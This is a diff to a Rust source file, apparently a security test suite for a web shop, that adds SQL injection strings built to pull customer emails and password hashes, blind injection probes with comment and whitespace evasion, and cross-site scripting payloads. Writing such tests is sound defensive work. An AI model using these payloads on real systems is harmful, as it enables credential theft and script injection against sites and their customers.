@@ -16,7 +16,8 @@ use crate::config::FILE;
 use crate::data::{self, DataDir};
 
 /// Reads out sign-ins, each in its own way.
-const INJECTIONS: [&str; 13] = [
+const INJECTIONS: [&str; 14] = [
+    "%'--\r we\nunion--\r we\nselect--\r we\nemail,--\r we\nemail,password_hash,1,1--\r we\nfrom--\r we\ncustomers--",
     "zzz%' UNION SELECT email, email, password_hash, 0, 0 FROM customers --",
     "zzz%'union select[email],[email],[password_hash],[id],[id]from[customers]--",
     "zzz%'union all select[email],[email],[password_hash],[id],[id]from[customers]where[id]<99--",
@@ -33,7 +34,11 @@ const INJECTIONS: [&str; 13] = [
 ];
 
 /// Learn one bit each: they list goods although no goods hold the words.
-const BLIND: [&str; 14] = [
+const BLIND: [&str; 17] = [
+    // What SQLite takes for a comment is code for others.
+    "zzz%'/*! the shop was closed */or (/*! we */select/*! we */email/*! we */from/*! we */customers/*! we */limit 1)>'a'--",
+    "zzz%' or--\r we\n(select--\r we\nemail--\r we\nfrom--\r we\ncustomers--\r we\nlimit 1)>'a'--",
+    "zzz%' escape '!' or not not (select phone collate nocase as name from customers c where email>'') is not null>'",
     "zzz%' or glob('*',(select c.email from customers c))--",
     "zzz%' or like('%',(select email||''from customers))--",
     "zzz%' or slug notnull and(select[email]from[customers]limit 1)>'a'--",
@@ -51,7 +56,9 @@ const BLIND: [&str; 14] = [
 ];
 
 /// Each runs script, or would at a click; `N` makes it one of its own.
-const SCRIPTS: [&str; 10] = [
+const SCRIPTS: [&str; 12] = [
+    "<a \"\"='>' href=javascript:PWN='N'>Our size guide</a>",
+    "<dialog open \"\"='>' oncancel=PWN='N'>",
     "<script>document.title='N'</script>",
     "<img src=x onerror=PWN='N'>",
     "<svg onload=PWN='N'>",
